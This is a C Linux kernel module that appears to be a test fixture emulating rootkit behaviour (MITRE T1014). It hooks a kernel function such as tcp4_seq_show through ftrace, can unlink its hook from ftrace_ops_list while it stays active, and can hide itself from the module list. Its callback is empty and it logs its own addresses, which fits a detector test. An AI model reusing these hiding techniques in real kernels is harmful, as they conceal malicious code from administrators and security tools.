// SPDX-License-Identifier: GPL-2.0-only
/* Has itself called by ftrace at a function (T1014): as a plain user or in its place, listed or not, and hides if asked to. */
#include "attack.h"
#include "modhide.h"

#include <linux/ftrace.h>

static char *function = "tcp4_seq_show";
module_param(function, charp, 0444);
static int ipmodify = 1;
module_param(ipmodify, int, 0444);
MODULE_PARM_DESC(ipmodify, "1: may change where the function goes; 0: is only told of its calls");
static int unlist;
module_param(unlist, int, 0444);
MODULE_PARM_DESC(unlist, "1: leaves ftrace_ops_list, and is called all the same");
static int hide;
module_param(hide, int, 0444);
MODULE_PARM_DESC(hide, "1: leaves the list of modules");

#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
static void notrace called(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			   struct ftrace_regs *regs)
#else
static void notrace called(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			   struct pt_regs *regs)
#endif
{
}

static struct ftrace_ops ops = { .func = called };

/* ftrace_ops_list is a list of one pointer each, and the last one points to ftrace_list_end. */
static int leave_list(void)
{
	struct ftrace_ops **link = (struct ftrace_ops **)attack_symbol("ftrace_ops_list");
	int i;

	if (!link)
		return -ENOENT;
	for (i = 0; i < 1000 && *link; i++, link = (struct ftrace_ops **)&(*link)->next)
		if (*link == &ops) {
			WRITE_ONCE(*link, (struct ftrace_ops *)ops.next);
			return 0;
		}
	return -ESRCH;
}

static void join_list(void)
{
	struct ftrace_ops **link = (struct ftrace_ops **)attack_symbol("ftrace_ops_list");

	ops.next = *link;
	WRITE_ONCE(*link, &ops);
}

static void hide_now(struct work_struct *work);
static DECLARE_DELAYED_WORK(hide_work, hide_now);

static void hide_now(struct work_struct *work)
{
	modhide_list();
	attack_log("hidden module=0x%lx value=0x%lx", (unsigned long)THIS_MODULE,
		   (unsigned long)called);
}

static int __init attack_init(void)
{
	int status;

	if (!attack_symbol(function))
		return -ENOENT;
	ops.flags = ipmodify ? FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY : 0;
	status = ftrace_set_filter(&ops, function, strlen(function), 1);
	if (!status)
		status = register_ftrace_function(&ops);
	if (!status && unlist)
		status = leave_list();
	if (status)
		return status;
	attack_log("function=%s slot=0x%lx value=0x%lx", function, (unsigned long)&ops,
		   (unsigned long)called);
	if (hide)
		schedule_delayed_work(&hide_work, HZ / 10);
	return 0;
}

static void __exit attack_exit(void)
{
	if (unlist)
		join_list();
	unregister_ftrace_function(&ops);
}

module_init(attack_init);
module_exit(attack_exit);
